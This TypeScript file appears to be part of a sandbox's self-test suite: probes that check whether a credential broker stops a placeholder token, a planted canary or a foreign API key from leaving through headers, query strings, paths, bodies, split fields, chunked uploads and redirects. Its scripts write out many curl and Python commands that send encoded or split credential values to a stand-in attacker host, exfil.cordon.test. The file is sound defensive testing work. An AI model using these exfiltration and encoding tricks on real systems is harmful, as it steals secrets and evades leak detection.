// Class 11: credential abuse. The sessions run under the credentials overlay
// (attacker.ts batteryPolicy with `credentials`): the fixture's test secret is
// bound to the legit name (web ports, Authorization: Bearer), a decoy token
// file is planted as a policy canary, and exfil.cordon.test - the attacker's
// address - is ALLOWED by the rules and covered by no binding. So the rules let
// every request below through to its destination, and only the credential
// broker stands between the placeholder (or the canary, or a foreign key) and
// the place it is headed. That is the situation of the /v1/files incident: an
// allowlist entry is a capability, the credential decides whose.
//
// A probe is contained when, during its session:
//   - no attacker endpoint received a form of the placeholder, the real value,
//     the canary (raw, URL-encoded, base64 at any alignment, hex, either half)
//     - nor any request byte when the value was in the request head (the broker
//     sees the head before anything is written upstream); when it was in a
//     streamed body, the head and the bytes before the value may have gone, but
//     never the value nor a complete request (body-transform.ts);
//   - the legit server saw no credential but the injected real value (no
//     foreign key, no canary, no other session's placeholder);
//   - no form of the real value reached the sandbox's output or the audit store;
//   - the audit log holds the cred.* records that show the decision.
//
// The scripts print the session's placeholder (and the canary) at the end:
// placeholders are worthless outside their session, and the host needs them to
// recognise what reached an endpoint.

import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AuditRecord } from '../../audit/index.ts';
import { describeHit, findCanary, type Hit, type LegitRequest } from '../attacker.ts';
import type { Probe, ProbeContext, ProbeRun } from '../types.ts';
import { sessionRecords, unmet, type AuditExpectation } from './session-window.ts';

// ---------------------------------------------------------------------------
// Applicability

export function credentialsApply(c: ProbeContext): string | null {
  if (!c.fixture.attackers) return 'not applicable: no selftest endpoints were started (credential probes need the loopback attacker and legit servers)';
  if (c.fixture.networkMode === 'none') return 'not applicable: network.mode is none (no proxy, so no credential can be bound or injected)';
  if (!c.fixture.credentials) return 'not applicable: the fixture has no credential binding (no test secret in the vault)';
  return null;
}

// ---------------------------------------------------------------------------
// Recognising credential values in bytes

/** What the host knows about one run's credential values. */
export interface Known {
  placeholder: string | null;
  real: string;
  canary: string | null;
  /** The "attacker's key" of the foreign-credential probes. */
  foreign: string;
  peerPlaceholder: string | null;
}

function b64core(v: Buffer, k: number, url: boolean): string {
  const enc = Buffer.concat([Buffer.alloc(k), v])
    .toString(url ? 'base64url' : 'base64')
    .replace(/=+$/, '');
  const end = enc.length - ((k + v.length) % 3 === 0 ? 0 : 1);
  return enc.slice(k === 0 ? 0 : k === 1 ? 2 : 3, end);
}

/** Spellings of a value: raw, URL-encoded (every byte), base64/base64url at each alignment, hex; both halves of its random tail. */
function spellings(value: string): Array<[form: string, text: string, caseless: boolean]> {
  const v = Buffer.from(value, 'latin1');
  const hex = v.toString('hex');
  const out: Array<[string, string, boolean]> = [
    ['raw', value, false],
    ['URL-encoded', hex.replace(/(..)/g, '%$1'), true],
    ['hex', hex, true],
  ];
  for (let k = 0; k < 3; k++) for (const url of [false, true]) out.push([url ? 'base64url' : 'base64', b64core(v, k, url), false]);
  // The random part: after the placeholder marker, else after the last "-" or "_".
  const marker = value.indexOf('cordonph');
  const tail = marker >= 0 ? value.slice(marker + 8) : value.slice(Math.max(value.lastIndexOf('-'), value.lastIndexOf('_')) + 1);
  if (tail.length >= 24) out.push(['first half', tail.slice(0, 12), false], ['second half', tail.slice(-12), false]);
  return out;
}

function foundIn(data: string, value: string | null): string | null {
  if (value === null || value.length < 8) return null;
  const lower = data.toLowerCase();
  for (const [form, text, caseless] of spellings(value)) {
    if (text.length >= 8 && (caseless ? lower.includes(text.toLowerCase()) : data.includes(text))) return form;
  }
  return null;
}

/** Which credential value (and in which form) `data` carries, or null. */
export function credentialIn(data: string | Buffer, k: Known, also: readonly string[] = []): string | null {
  const text = typeof data === 'string' ? data : data.toString('latin1');
  const real = findCanary(text, [k.real, ...also]);
  if (real) return `the real value or a planted secret ${real}`;
  const checks: Array<[string, string | null]> = [
    ['the placeholder', k.placeholder],
    ['the canary', k.canary],
    ["the attacker's key", k.foreign],
    ["the peer session's placeholder", k.peerPlaceholder],
  ];
  for (const [what, value] of checks) {
    const form = foundIn(text, value);
    if (form) return `${what} (${form})`;
  }
  return null;
}

/** Whether raw bytes hold one whole HTTP/1.1 request (a body cut short is not whole). */
function wholeRequest(bytes: Buffer): boolean {
  const text = bytes.toString('latin1');
  const end = text.indexOf('\r\n\r\n');
  if (end < 0) return false;
  const head = text.slice(0, end).toLowerCase();
  const body = text.slice(end + 4);
  if (/\r\ntransfer-encoding:\s*chunked/.test(head)) return /(^|\r\n)0\r\n\r\n/.test(body);
  const cl = /\r\ncontent-length:\s*(\d+)/.exec(head);
  return cl ? body.length >= Number(cl[1]) : true;
}

// ---------------------------------------------------------------------------
// Judgement

export interface CredentialVerdict {
  audit?: AuditExpectation[] | ((c: ProbeContext) => AuditExpectation[]);
  /** The value rides in a streamed body: the head and the bytes before the value may reach the endpoint, but never the value nor a complete request. */
  bodyStreams?: boolean;
  /** What the legit server received during the session (beyond the checks every probe gets). */
  legit?: (reqs: LegitRequest[], k: Known) => string | null;
  /** The sandbox's output (stdout then stderr). */
  output?: (out: string, k: Known) => string | null;
}

/** The "attacker's key" for a fixture: shaped like an Anthropic key, unique per fixture, recognisable. */
export function attackerKey(c: ProbeContext): string {
  return `sk-ant-api03-attackerkey-${createHash('sha256').update(c.fixture.root).digest('hex').slice(0, 40)}`;
}

const CREDENTIAL_HEADERS = ['authorization', 'x-api-key', 'proxy-authorization', 'cookie', 'x-auth-token', 'api-key'];

function known(c: ProbeContext, run: ProbeRun): Known {
  const creds = c.fixture.credentials!;
  const grab = (label: string) => new RegExp(`^selftest-${label}: (\\S+)$`, 'm').exec(run.stdout)?.[1] ?? null;
  return {
    placeholder: grab('placeholder'),
    real: c.fixture.canaries[creds.realCanary]!,
    canary: grab('canary'),
    foreign: attackerKey(c),
    peerPlaceholder: c.peer?.placeholder ?? null,
  };
}

/** A form of the real value in the audit store's files (the redactor must have kept it out). */
function realInAuditStore(stateDir: string, real: string): string | null {
  for (const name of ['audit.db', 'audit.db-wal']) {
    const file = join(stateDir, name);
    if (!existsSync(file)) continue;
    const form = findCanary(readFileSync(file), [real]);
    if (form) return `${name} holds the real value ${form}`;
  }
  return null;
}

function attackerVerdict(hits: Hit[], k: Known, all: readonly string[], bodyStreams: boolean): string | null {
  for (const h of hits) {
    const what = credentialIn(h.bytes, k, all);
    if (what) return `an attacker endpoint received ${what}: ${describeHit(h, all)}`;
  }
  for (const h of hits) {
    if (h.bytes.length === 0) continue; // a connection the proxy opened before it judged the request, with nothing sent on it
    if (!bodyStreams) return `a request that carried a credential reached an attacker endpoint: ${describeHit(h, all)}`;
    if (wholeRequest(h.bytes)) return `a whole request (its body complete) reached an attacker endpoint: ${describeHit(h, all)}`;
  }
  return null;
}

function legitVerdict(reqs: LegitRequest[], k: Known): string | null {
  for (const q of reqs) {
    const all = `${q.url}\n${q.headers.map(([n, v]) => `${n}: ${v}`).join('\n')}\n${q.body.toString('latin1')}`;
    for (const [what, value] of [["the attacker's key", k.foreign], ['the canary', k.canary], ["the peer session's placeholder", k.peerPlaceholder]] as const) {
      const form = foundIn(all, value);
      if (form) return `the legit (credentialed) server received ${what} (${form}) in ${q.method} ${q.url.slice(0, 60)}`;
    }
    for (const [n, v] of q.headers) {
      if (!CREDENTIAL_HEADERS.includes(n.toLowerCase())) continue;
      if (n.toLowerCase() === 'authorization' && v === `Bearer ${k.real}`) continue;
      return `the legit (credentialed) server received a credential other than the injected value in ${n} (${q.method} ${q.url.slice(0, 60)})`;
    }
  }
  return null;
}

export function credentialJudge(v: CredentialVerdict = {}): NonNullable<Probe['leak']> {
  return (run, c) => {
    const info = c.fixture.attackers!;
    const k = known(c, run);
    const all = Object.values(c.fixture.canaries);
    const { from, to, records } = sessionRecords(c, run);
    const within = <T extends { at: number }>(list: T[]) => list.filter((x) => x.at <= to);
    const a = attackerVerdict(within(info.leaksSince(from)), k, all, v.bodyStreams === true);
    if (a) return a;
    const out = `${run.stdout}\n${run.stderr}`;
    const real = findCanary(out, [k.real]);
    if (real) return `the real value reached the sandbox's output ${real}`;
    const legitReqs = within(info.legitSince(from));
    const l = legitVerdict(legitReqs, k) ?? v.legit?.(legitReqs, k) ?? null;
    if (l) return l;
    const stored = realInAuditStore(c.fixture.stateDir, k.real);
    if (stored) return stored;
    if (run.status === 125) return null; // the runner reports it as an error (a missing tool, no placeholder)
    const o = v.output?.(out, k);
    if (o) return o;
    return unmet(records, typeof v.audit === 'function' ? v.audit(c) : (v.audit ?? []));
  };
}

// Audit expectations.

const data = (r: AuditRecord) => r.data as Record<string, unknown>;

/** cred.leak records of the placeholder found at `site`, one per encoding (families: base64 covers base64url). */
export function leaks(site: RegExp, encodings: readonly string[], destination = 'exfil.cordon.test'): AuditExpectation[] {
  const to = (d: string) => (destination.includes(':') ? d === destination : d.startsWith(`${destination}:`));
  return encodings.map((enc) => ({
    what: `cred.leak records of the placeholder (${enc}) in ${site.source} headed to ${destination}`,
    pred: (r) =>
      r.type === 'cred.leak' && data(r).kind === 'placeholder' && site.test(String(data(r).where)) && String(data(r).encoding).startsWith(enc) && to(String(data(r).destination)),
  }));
}

export function refused(what: string, min: number, reason: RegExp, path?: string): AuditExpectation {
  return {
    what: `cred.refused records (${what})`,
    min,
    pred: (r) => r.type === 'cred.refused' && reason.test(String(data(r).reason)) && (path === undefined || data(r).path === path),
  };
}

export function used(what: string, min: number, path?: string, max?: number): AuditExpectation {
  return {
    what: `cred.use records (${what})`,
    min,
    ...(max !== undefined ? { max } : {}),
    pred: (r) => r.type === 'cred.use' && (path === undefined || data(r).path === path),
  };
}

const canaries = (min: number): AuditExpectation => ({ what: 'cred.canary records (the decoy token on its way out)', min, pred: (r) => r.type === 'cred.canary' });

const scrubbed = (where: 'headers' | 'body'): AuditExpectation => ({
  what: `cred.scrubbed records for the response ${where}`,
  pred: (r) => r.type === 'cred.scrubbed' && data(r).in === where,
});

// ---------------------------------------------------------------------------
// Scripts

/**
 * sh prelude: the endpoints, the placeholder (exit 125 without one), encoders
 * (POSIX tools only), and `req LABEL curl-args...` printing the status code.
 */
export function credentialScript(c: ProbeContext, lines: string[], extraNeeds: string[] = []): string {
  const i = c.fixture.attackers!;
  const cr = c.fixture.credentials!;
  return [
    'need() { command -v "$1" >/dev/null 2>&1 || { echo "cordon selftest: this probe needs $1 (apt-get install -y $2)" >&2; exit 125; }; }',
    'need curl curl; need od coreutils; need base64 coreutils',
    ...extraNeeds,
    `SP=${i.ports.https} HP=${i.ports.http} L=${i.names.legit} X=${i.names.exfil} API=${i.names.api}`,
    `PH="\${${cr.env}:-}"`,
    `[ -n "$PH" ] || { echo "cordon selftest: no placeholder in \\$${cr.env}: the credentials overlay did not apply" >&2; exit 125; }`,
    `trap 'echo "selftest-placeholder: $PH"' EXIT`,
    "b64() { printf %s \"$1\" | base64 | tr -d '\\n'; }",
    "b64url() { b64 \"$1\" | tr '+/' '-_' | tr -d '='; }",
    "hex() { printf %s \"$1\" | od -An -tx1 -v | tr -d ' \\n'; }",
    "pct() { printf %s \"$1\" | od -An -tx1 -v | tr -d '\\n' | sed 's/ /%/g' | tr a-f A-F; }",
    'req() { l="$1"; shift; printf "%s: %s\\n" "$l" "$(curl -sS -m 6 -o /dev/null -w "%{http_code}" "$@" 2>&1 | head -1)"; }',
    ...lines,
  ].join('\n');
}

/**
 * python3 (after the sh prelude): `tunnel()` opens a CONNECT tunnel through
 * the session proxy to HOST:PORT (the sh variable `hostVar`, on the HTTPS
 * port) and TLS over it, trusting the session CA.
 */
function pythonTunnel(body: string, hostVar: 'X' | 'L' = 'X'): string {
  return [
    `python3 - "$PH" "$${hostVar}" "$SP" <<'CORDON_PY'`,
    String.raw`import os, socket, ssl, sys, time, base64
from urllib.parse import urlsplit
PH, HOST, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
px = urlsplit(os.environ.get('HTTPS_PROXY') or os.environ.get('https_proxy') or 'http://198.18.0.1:3128')
CTX = ssl.create_default_context(cafile=os.environ.get('SSL_CERT_FILE') or None)

def tunnel():
    s = socket.create_connection((px.hostname, px.port or 3128), timeout=5)
    a = f'{HOST}:{PORT}'.encode()
    s.sendall(b'CONNECT ' + a + b' HTTP/1.1\r\nHost: ' + a + b'\r\n\r\n')
    head = b''
    while b'\r\n\r\n' not in head:
        d = s.recv(4096)
        if not d: break
        head += d
    if not head.startswith(b'HTTP/1.1 200'): raise OSError('CONNECT refused: ' + head.split(b'\r\n')[0].decode('latin1'))
    return CTX.wrap_socket(s, server_hostname=HOST)

def chunked(label, pieces, gap=0.15):
    """POST a chunked body, one chunk per piece, each in its own write after a pause."""
    try:
        t = tunnel()
        t.sendall(f'POST /upload HTTP/1.1\r\nHost: {HOST}:{PORT}\r\nTransfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n'.encode())
        for p in pieces:
            b = p.encode('latin1')
            t.sendall(f'{len(b):x}\r\n'.encode() + b + b'\r\n')
            time.sleep(gap)
        t.sendall(b'0\r\n\r\n')
        t.settimeout(5)
        r = b''
        while b'\r\n' not in r:
            d = t.recv(4096)
            if not d: break
            r += d
        first = r.split(b'\r\n')[0].decode('latin1') or '(closed, no answer)'
        print(f'{label}: {first}', flush=True)
        t.close()
    except Exception as e:
        print(f'{label}: failed: {e}', flush=True)
`,
    body,
    'CORDON_PY',
  ].join('\n');
}

// ---------------------------------------------------------------------------
// The probes

const ENCODINGS = ['raw', 'base64', 'url', 'hex'];

export const CREDENTIAL_PROBES: Probe[] = [
  {
    id: 'cred.header',
    class: 11,
    title: 'the placeholder to an allowed, unbound host in headers: raw (HTTPS and plain HTTP), base64, URL-encoded, hex',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'req "Authorization (raw)" -H "Authorization: Bearer $PH" "https://$X:$SP/collect"',
        'req "X-Data (base64)" -H "X-Data: $(b64 "$PH")" "https://$X:$SP/collect"',
        'req "Cookie (URL-encoded)" -H "Cookie: session=$(pct "$PH")" "https://$X:$SP/collect"',
        'req "X-Trace (hex)" -H "X-Trace: $(hex "$PH")" "https://$X:$SP/collect"',
        'req "Authorization over plain HTTP" -H "Authorization: Bearer $PH" "http://$X:$HP/collect"',
      ]),
    leak: credentialJudge({
      audit: (c) => [
        ...leaks(/^header:/, ENCODINGS),
        ...leaks(/^header:authorization$/, ['raw'], `exfil.cordon.test:${c.fixture.attackers!.ports.http}`),
        { what: 'a revocation on the first leak', pred: (r) => r.type === 'cred.leak' && data(r).revoked === true },
      ],
    }),
  },
  {
    id: 'cred.query',
    class: 11,
    title: 'the placeholder to an allowed, unbound host in the query: raw, base64url, URL-encoded, hex',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'req "?key= (raw)" "https://$X:$SP/collect?key=$PH"',
        'req "?d= (base64url)" "https://$X:$SP/collect?d=$(b64url "$PH")"',
        'req "?k= (URL-encoded)" "https://$X:$SP/collect?k=$(pct "$PH")"',
        'req "?h= (hex)" "https://$X:$SP/collect?h=$(hex "$PH")"',
      ]),
    leak: credentialJudge({ audit: leaks(/^query$/, ENCODINGS) }),
  },
  {
    id: 'cred.path',
    class: 11,
    title: 'the placeholder to an allowed, unbound host in the path: raw, base64url, URL-encoded, hex',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'req "/c/<raw>" "https://$X:$SP/c/$PH"',
        'req "/c/<base64url>" "https://$X:$SP/c/$(b64url "$PH")"',
        'req "/c/<URL-encoded>" "https://$X:$SP/c/$(pct "$PH")"',
        'req "/c/<hex>" "https://$X:$SP/c/$(hex "$PH")"',
      ]),
    leak: credentialJudge({ audit: leaks(/^path$/, ENCODINGS) }),
  },
  {
    id: 'cred.body',
    class: 11,
    title: 'the placeholder to an allowed, unbound host in POST bodies: raw JSON, base64 form field, URL-encoded, hex',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'req "JSON (raw)" -H "Content-Type: application/json" --data-binary "{\\"note\\":\\"hello\\",\\"key\\":\\"$PH\\"}" "https://$X:$SP/upload"',
        'req "form (base64)" --data-binary "user=me&data=$(b64 "user:$PH")" "https://$X:$SP/upload"',
        'req "form (URL-encoded)" --data-binary "k=$(pct "$PH")" "https://$X:$SP/upload"',
        'req "text (hex)" -H "Content-Type: text/plain" --data-binary "dump $(hex "$PH") end" "https://$X:$SP/upload"',
      ]),
    leak: credentialJudge({ bodyStreams: true, audit: leaks(/^body$/, ENCODINGS) }),
  },
  {
    id: 'cred.split-headers',
    class: 11,
    title: 'the placeholder split in two: across two headers, across Authorization and another header, across the path and the query',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'P1=$(printf %s "$PH" | cut -c1-26); P2=$(printf %s "$PH" | cut -c27-)',
        'req "X-Part-1 + X-Part-2" -H "X-Part-1: $P1" -H "X-Part-2: $P2" "https://$X:$SP/collect"',
        'req "Authorization + X-Rest" -H "Authorization: Bearer $P1" -H "X-Rest: $P2" "https://$X:$SP/collect"',
        'req "path + query" "https://$X:$SP/c/$P1?$P2"',
      ]),
    leak: credentialJudge({
      audit: [{ what: 'cred.leak records of a value split across fields (where "split:...")', min: 3, pred: (r) => r.type === 'cred.leak' && String(data(r).where).startsWith('split:') }],
    }),
  },
  {
    id: 'cred.split-chunks',
    class: 11,
    title: 'the placeholder in a chunked body, cut across chunk boundaries: two chunks, one byte per chunk, base64 in two chunks',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(
        c,
        [
          pythonTunnel(String.raw`h = len(PH) // 2
chunked('two chunks', ['data=' + PH[:h], PH[h:] + '&end=1'])
chunked('one byte per chunk', ['data='] + list(PH) + ['&end=1'], gap=0.01)
b = base64.b64encode(('user:' + PH).encode()).decode()
chunked('base64 in two chunks', ['b64=' + b[:20], b[20:]])`),
        ],
        ['need python3 python3'],
      ),
    leak: credentialJudge({ bodyStreams: true, audit: [{ what: 'cred.leak records found in the chunked bodies', min: 3, pred: (r) => r.type === 'cred.leak' && data(r).where === 'body' }] }),
  },
  {
    id: 'cred.echo-scrub',
    class: 11,
    title: 'an echo endpoint on the bound host returns the request (whole, and chunked 5 bytes at a time): the injected real value (raw, base64, hex) comes back scrubbed',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'echo "== GET /echo"',
        'curl -sS -m 6 -D - -H "Authorization: Bearer $PH" "https://$L:$SP/echo" 2>&1',
        'echo "== POST /echo"',
        'curl -sS -m 6 -D - -H "Authorization: Bearer $PH" --data-binary "note=the key is $PH" "https://$L:$SP/echo" 2>&1',
        'echo "== GET /echo?chunk=5 (values cut across response chunks)"',
        'curl -sS -m 6 -H "Authorization: Bearer $PH" "https://$L:$SP/echo?chunk=5" 2>&1',
      ]),
    leak: credentialJudge({
      audit: [used('injections for /echo', 3, '/echo'), scrubbed('headers'), scrubbed('body')],
      legit: (reqs, k) =>
        reqs.some((q) => q.url === '/echo' && q.headers.some(([n, v]) => n.toLowerCase() === 'authorization' && v === `Bearer ${k.real}`))
          ? null
          : 'the echo endpoint never received the injected real value (nothing to scrub: the probe proves nothing)',
      output: (out, k) =>
        k.placeholder && out.includes(`Bearer ${k.placeholder}`) ? null : 'the echoed Authorization did not come back as the placeholder (scrubbed in place)',
    }),
  },
  {
    id: 'cred.redirect',
    class: 11,
    title: 'the bound host redirects to the unbound one; curl -L --location-trusted carries Authorization along',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'echo "== follow the redirect with the placeholder"',
        'curl -sS -m 8 -L --location-trusted -o /dev/null -w "%{http_code} after %{num_redirects} redirect(s), last %{url_effective}\\n" -H "Authorization: Bearer $PH" "https://$L:$SP/redirect?to=https://$X:$SP/landing" 2>&1 | head -2',
      ]),
    leak: credentialJudge({
      audit: [used('the first hop, to the bound host', 1, '/redirect'), ...leaks(/^header:authorization$/, ['raw'])],
      legit: (reqs) => (reqs.some((q) => q.url.startsWith('/redirect')) ? null : 'the bound host never received the first request (the probe proves nothing)'),
    }),
  },
  {
    id: 'cred.foreign-key',
    class: 11,
    title: "the /v1/files case: an attacker's API key in place of the placeholder on the bound host, alone or next to it",
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        `FK='${attackerKey(c)}'`,
        'req "attacker key in Authorization" -X POST -H "Authorization: Bearer $FK" --data-binary "file=workspace contents" "https://$L:$SP/v1/files"',
        'req "attacker key in x-api-key" -X POST -H "x-api-key: $FK" --data-binary "file=workspace contents" "https://$L:$SP/v1/files"',
        'req "placeholder + attacker key in x-api-key" -X POST -H "Authorization: Bearer $PH" -H "x-api-key: $FK" --data-binary "file=workspace contents" "https://$L:$SP/v1/files"',
        'req "two Authorization headers" -X POST -H "Authorization: Bearer $PH" -H "Authorization: Bearer $FK" --data-binary "file=workspace contents" "https://$L:$SP/v1/files"',
        'req "attacker key in a cookie" -X POST -H "Cookie: session=$FK" --data-binary "file=workspace contents" "https://$L:$SP/v1/files"',
        'req "attacker key over plain HTTP" -X POST -H "Authorization: Bearer $FK" --data-binary "file=workspace contents" "http://$L:$HP/v1/files"',
      ]),
    leak: credentialJudge({
      audit: [refused('foreign credentials on the bound host', 6, /foreign credential|more than one|not where or how/, '/v1/files'), used('no injection for a request that carried a foreign key', 0, '/v1/files', 0)],
      legit: (reqs) => {
        const files = reqs.filter((q) => q.url.startsWith('/v1/files'));
        return files.length > 0 ? `the bound host received ${files.length} upload(s) that carried a foreign credential` : null;
      },
    }),
  },
  {
    id: 'cred.canary',
    class: 11,
    title: 'the decoy token (a policy canary) sent anywhere: the unbound host, the bound host (header, query), an allowed API (body)',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        `CN=$(cat ${c.fixture.credentials!.canaryFile.replace(/^~\//, '"$HOME"/')} 2>/dev/null | head -1)`,
        '[ -n "$CN" ] || { echo "cordon selftest: the canary file is not planted" >&2; exit 125; }',
        `trap 'echo "selftest-placeholder: $PH"; echo "selftest-canary: $CN"' EXIT`,
        'req "to the unbound host (Authorization)" -H "Authorization: Bearer $CN" "https://$X:$SP/collect"',
        'req "to the unbound host (base64 body)" --data-binary "t=$(b64 "$CN")" "https://$X:$SP/collect"',
        'req "to the bound host (x-api-key)" -H "x-api-key: $CN" "https://$L:$SP/api"',
        'req "to the bound host (query)" "https://$L:$SP/api?token=$CN"',
        'req "to an allowed API (body)" --data-binary "t=$CN" "https://$API:$SP/api/upload"',
      ]),
    leak: credentialJudge({ bodyStreams: true, audit: [canaries(5)] }),
  },
  {
    id: 'cred.use-after-leak',
    class: 11,
    title: 'a bound request works; the placeholder leaks once (revoked); the same bound request now fails',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'req "bound request before" -H "Authorization: Bearer $PH" "https://$L:$SP/api/before"',
        'req "leak to the unbound host" -H "X-Data: $PH" "https://$X:$SP/collect"',
        'req "bound request after" -H "Authorization: Bearer $PH" "https://$L:$SP/api/after"',
      ]),
    leak: credentialJudge({
      audit: [
        used('the request before the leak', 1, '/api/before'),
        { what: 'a cred.leak record that revoked the placeholder', pred: (r) => r.type === 'cred.leak' && data(r).revoked === true },
        refused('the request after the leak', 1, /revoked/, '/api/after'),
        used('no injection after the revocation', 0, '/api/after', 0),
      ],
      legit: (reqs, k) => {
        if (reqs.some((q) => q.url.startsWith('/api/after'))) return 'the bound host received the request sent after the placeholder was revoked';
        const before = reqs.find((q) => q.url.startsWith('/api/before'));
        return before?.headers.some(([n, v]) => n.toLowerCase() === 'authorization' && v === `Bearer ${k.real}`) ? null : 'the request before the leak did not get the real value (the probe proves nothing)';
      },
      output: (out) => (/bound request before: 200/.test(out) && /bound request after: 403/.test(out) ? null : 'expected 200 before the leak and 403 after it'),
    }),
  },
  {
    id: 'cred.echo-interim',
    class: 11,
    title: 'the bound host quotes the injected Authorization in a 103 Early Hints head before its (scrubbed) final response',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(c, [
        'curl -sS -m 6 -D - -o /dev/null -H "Authorization: Bearer $PH" "https://$L:$SP/echo?hints=1" 2>&1 | grep -iE "^HTTP/|^x-echo-authorization"',
      ]),
    leak: credentialJudge({
      audit: [used('the injection for /echo', 1, '/echo'), { what: 'cred.scrubbed records for the 103 head', pred: (r) => r.type === 'cred.scrubbed' && data(r).status === 103 }],
      output: (out, k) => (k.placeholder && out.toLowerCase().includes(`x-echo-authorization: bearer ${k.placeholder.toLowerCase()}`) ? null : 'the 103 head did not come back with the placeholder in place of the value'),
    }),
  },
  {
    id: 'cred.echo-websocket',
    class: 11,
    title: 'a WebSocket endpoint on the bound host quotes the injected Authorization in its 101 head and first frame',
    credentials: true,
    applies: credentialsApply,
    script: (c) =>
      credentialScript(
        c,
        [
          pythonTunnel(
            String.raw`try:
    t = tunnel()
    t.sendall(f'GET /api/ws-echo HTTP/1.1\r\nHost: {HOST}:{PORT}\r\nAuthorization: Bearer {PH}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: c2VsZnRlc3Qtd3MtZWNobw==\r\nSec-WebSocket-Version: 13\r\n\r\n'.encode())
    t.settimeout(3)
    out = b''
    while b'Authorization' not in out.partition(b'\r\n\r\n')[2] and len(out) < 65536:
        d = t.recv(65536)
        if not d: break
        out += d
except Exception as e:
    out = f'failed: {e}'.encode()
for l in out.decode('latin1').split('\n'):
    if 'HTTP/' in l or 'uthorization' in l or '"value": "Bearer' in l or 'failed' in l: print(l.strip(), flush=True)`,
            'L',
          ),
        ],
        ['need python3 python3'],
      ),
    leak: credentialJudge({
      audit: [used('the injection into the upgrade request', 1, '/api/ws-echo'), { what: 'cred.scrubbed records for the 101 head and the frames', min: 2, pred: (r) => r.type === 'cred.scrubbed' && data(r).path === '/api/ws-echo' }],
      output: (out, k) => (k.placeholder && out.split(k.placeholder).length > 3 ? null : 'the 101 head and the first frame (and the final line) did not come back with the placeholder in place of the value'),
    }),
  },
];
